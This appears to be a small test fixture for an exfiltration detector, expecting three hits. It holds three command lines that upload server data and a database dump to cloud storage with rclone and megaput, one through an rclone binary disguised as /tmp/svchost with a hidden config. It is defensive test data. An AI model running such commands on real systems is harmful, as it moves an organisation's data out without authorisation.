# SPDX-License-Identifier: Apache-2.0
# hits: 3
# fake: /usr/bin/rclone /tmp/svchost /usr/bin/megaput
rclone copy /srv/data mega:backup
/tmp/svchost copy /srv/data remote:x --config /dev/shm/r.conf --transfers 20 --ignore-existing
megaput --username a@example.org /srv/data/db.sql
